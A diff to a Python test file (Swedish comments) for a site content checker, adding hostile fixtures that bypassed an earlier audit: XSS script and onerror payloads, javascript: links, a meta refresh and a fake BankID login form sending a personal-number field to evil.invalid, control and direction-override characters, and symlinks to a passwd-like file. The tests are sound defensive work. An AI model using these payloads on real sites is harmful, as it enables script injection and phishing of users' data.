@@ -2,11 +2,15 @@
 
 Två skydd testas var för sig:
 
-1. ``check`` stoppar HTML och farliga länkar i varje fälttyp, med fil och rad (Python, snabbt).
+1. ``check`` stoppar HTML och farliga länkar i varje fälttyp, med fil och rad (Python, snabbt), också
+   de vägar förbi kontrollen som granskningen i december 2026 hittade (escapade bakåtapostrofer, ett
+   indraget ```, referenslänkar, java<radbrytning>script:, NUL, riktningstecken, 700 nivåer lista,
+   dubbla id:n i mallen, symboliska länkar).
 2. Om något ändå skulle slinka igenom är det ofarligt: en kopia av innehållet med fientliga värden
-   i varje fälttyp byggs förbi ``check`` (modellen ändras direkt), visas på sin site_url med sajtens
-   Content-Security-Policy, och i Chromium körs inget, inget anrop lämnar sajten och titlarna visas
-   som vanlig text.
+   i varje fälttyp byggs förbi ``check`` (modellen ändras direkt), men med kroken som tvättar sidornas
+   HTML (build_tools/html_guard.py). Ingen fientlig tagg, inget attribut och ingen farlig länk finns i
+   sidorna. I Chromium körs inget, ingen sida byter adress, inget anrop lämnar sajten och titlarna
+   visas som vanlig text: med sajtens Content-Security-Policy och även utan den (tvätten ensam).
 """
 
 from __future__ import annotations
@@ -34,7 +38,18 @@ TITLE_BREAKOUT = "</title><script>window.__pwned = 'title'</script>"
 IFRAME = '<iframe src="https://example.com/ram"></iframe>'
 JS_LINK = "[klicka här](javascript:window.__pwned='link')"
 HOSTILE_TITLE = "Elev <b>avstängd</b> " + IMG + TITLE_BREAKOUT
-HOSTILE_MARKDOWN = f"Text före.\n\n{SCRIPT}\n\n{IMG}\n\n{IFRAME}\n\n{JS_LINK}\n\n{BREAKOUT}"
+# Vägarna förbi den gamla kontrollen (granskningen 2026-12-06, H1): de ska vara ofarliga även förbi check.
+ESCAPED_REFRESH = '\\`<meta http-equiv="refresh" content="0;url=https://evil.invalid/">\\`'
+REFERRER = '<meta name="referrer" content="unsafe-url">'
+BUTTON = '<a class="md-button md-button--primary" href="https://evil.invalid/">Logga in med BankID</a>'
+FORM = '<form action="https://evil.invalid/"><input name="pnr"><button>Skicka</button></form>'
+REFERENCE_LINK = "[referenslänk][r]\n\n[r]: javascript:window.__pwned='ref'"
+INDENTED_FENCE = "    ```"
+HOSTILE_MARKDOWN = (
+    f"Text före.\n\n{SCRIPT}\n\n{IMG}\n\n{IFRAME}\n\n{JS_LINK}\n\n{BREAKOUT}\n\n{ESCAPED_REFRESH}\n\n"
+    f"{INDENTED_FENCE}\n\n{REFERRER}\n\n{BUTTON}\n\n{FORM}\n\n{REFERENCE_LINK}\n\nNUL:\x00:slut \u202eRLO\u202c\n"
+)
+TODAY = dt.date(2026, 12, 7)
 
 
 # ---- 1. check säger ifrån, med fil och rad ----
@@ -94,6 +109,32 @@ INJECTIONS = [
     ("guides/stod/bus.md", re.compile(r"^## ", re.M), "<script>alert(1)</script>\n\n## ", "html"),
     ("guides/stod/bus.md", re.compile(r'^beskrivning: "', re.M), 'beskrivning: "<script>alert(1)</script> ', "html"),
     ("docs/om.md", re.compile(r"^## ", re.M), "[x](vbscript:msgbox)\n\n## ", "farlig-lank"),
+    # Vägarna förbi den gamla kontrollen, i alla tre sorters sidor.
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), ESCAPED_REFRESH + "\n\n## ", "html"),
+    ("guides/roller/larare.md", re.compile(r"^## ", re.M), "    ```\n\n<img src=x onerror=alert(1)>\n\n## ", "html"),
+    ("docs/om.md", re.compile(r"^## ", re.M), "[länk][r]\n\n[r]: javascript:alert(1)\n\n## ", "farlig-lank"),
+    ("docs/om.md", re.compile(r"^## ", re.M), "\\`" + REFERRER + "\\`\n\n## ", "html"),
+    ("guides/roller/larare.md", re.compile(r"^## ", re.M), BUTTON + "\n\n## ", "html"),
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "a\x00b\n\n## ", "styrtecken"),
+    ("guides/stod/bus.md", re.compile(r"^## ", re.M), "Ring \u202e211 etni\u202c.\n\n## ", "riktningstecken"),
+    (
+        "decision_trees/elev-avstangd.yaml",
+        re.compile(r"^titel: .*$", re.M),
+        'titel: "Ring \u202e211"',
+        "riktningstecken",
+    ),
+    (
+        "data/stadsdelar.yaml",
+        re.compile(r"^(\s+)varde: https://.*$", re.M),
+        r'\1varde: "java\\nscript:alert(1)"',
+        "farlig-lank",
+    ),
+    (
+        "data/overenskommelse_mall.yaml",
+        re.compile(r"^  - id: giltighetstid$", re.M),
+        "  - id: parter",
+        "dubblett-mall-id",
+    ),
 ]
 
 
@@ -109,13 +150,36 @@ def test_check_reports_html_and_dangerous_links_with_file_and_line(tmp_path, fil
     path.write_text(changed, encoding="utf-8")
     start = pattern.search(text).start()
     expected_line = text.count("\n", 0, start) + 1
-    _, report = load_project(Layout(root), dt.date.today())
+    _, report = load_project(Layout(root), TODAY)
     found = [d for d in report.errors if d.code == code and d.location.path == path]
     assert found, [d.format(root) for d in report.errors]
     # Felet pekar på raden med det fientliga värdet (eller raden efter en nyckel med blocktext).
     assert any(expected_line <= d.location.line <= expected_line + 2 for d in found), [
         (d.location.line, expected_line) for d in found
     ]
+
+
+def test_a_700_level_list_is_an_error_within_seconds(tmp_path):
+    root = _copy_content(tmp_path)
+    path = root / "guides" / "stod" / "bus.md"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text + "\n" + "\n".join("    " * i + "- nivå" for i in range(700)) + "\n", encoding="utf-8")
+    _, report = load_project(Layout(root), TODAY)
+    first = text.count("\n") + 2  # listans första rad; felet gäller den 21:a nivån
+    assert [(d.code, d.location.path, d.location.line) for d in report.errors] == [("markdown-djup", path, first + 20)]
+
+
+def test_a_symlink_to_a_file_outside_is_refused_and_not_quoted(tmp_path):
+    root = _copy_content(tmp_path)
+    secret = tmp_path / "hemlig.txt"
+    secret.write_text("root:x:0:0:hemlig-rad:/root:/bin/bash\n" * 40, encoding="utf-8")
+    for link in (root / "docs" / "passwd.txt", root / "decision_trees" / "passwd.yaml", root / "data" / "x.yaml"):
+        link.symlink_to(secret)
+    _, report = load_project(Layout(root), TODAY)
+    assert sorted(d.location.path.name for d in report.errors if d.code == "inte-vanlig-fil") == [
+        "passwd.txt", "passwd.yaml", "x.yaml"
+    ]  # fmt: skip
+    assert "hemlig-rad" not in "\n".join(d.format(root) for d in report.items)
 
 
 # ---- 2. Det som ändå skulle slinka igenom är ofarligt ----
